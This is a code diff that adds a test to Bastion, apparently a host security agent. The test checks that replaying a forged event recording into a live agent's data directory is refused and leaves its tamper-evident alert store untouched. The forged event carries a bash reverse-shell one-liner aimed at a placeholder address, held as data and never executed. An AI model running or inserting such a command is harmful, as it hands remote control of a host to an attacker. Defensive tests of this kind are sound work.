@@ -110,6 +110,39 @@ def test_record_writes_the_replay_format(tmp_path: Path) -> None:
     assert f"{len(rows)} events" in rep.stderr
 
 
+def test_a_replay_into_a_live_agents_data_dir_is_refused(agent: AgentProc,
+                                                          tmp_path: Path) -> None:
+    """s26 (left by the s25 review): a replay refused only the default data dir, so one
+    aimed at a live agent's other data dir wrote a recording's alerts (a reverse shell
+    here) into its tamper-evident store as this host's.  The live agent holds the data
+    dir's owner lock: the replay is refused, naming the agent, and the store is not
+    touched."""
+    from bastion.events import ExecEvent, Proc, to_json
+
+    me = Proc(4_194_000, 4_194_000, 1, 0, 0, 0, 7, "bash", 1, "/usr/bin/bash")
+    ev = ExecEvent(time.time_ns(), me, filename="/usr/bin/bash", cwd="/tmp",
+                   argv=("bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"))
+    trace = tmp_path / "forged.jsonl"
+    trace.write_text(json.dumps(to_json(ev)) + "\n")
+
+    def alerts() -> list[str]:
+        r = agent.cli("alerts", "--data-dir", str(agent.data_dir), "--json")
+        return [json.loads(l)["rule"] for l in r.stdout.splitlines() if l.strip()]
+
+    before = alerts()
+    rep = subprocess.run([BASTION, "run", "--replay", str(trace), "--quiet", "--data-dir",
+                          str(agent.data_dir), "--socket", str(tmp_path / "r.sock")],
+                         capture_output=True, text=True, timeout=60)
+    assert rep.returncode != 0, rep.stderr
+    assert "another Bastion process holds this data dir" in rep.stderr, rep.stderr
+    assert f"pid {agent.proc.pid}" in rep.stderr and "agent.lock" in rep.stderr, rep.stderr
+    time.sleep(1.0)
+    after = alerts()
+    assert not any(r.startswith("behavior.reverse_shell") for r in after[len(before):]), after
+    assert agent.proc.poll() is None
+    agent.cli("status", "--socket", str(agent.socket))
+
+
 def test_reset_emergency_removes_bastion_pins(tmp_path: Path) -> None:
     if os.geteuid() != 0:
         pytest.skip("needs root")
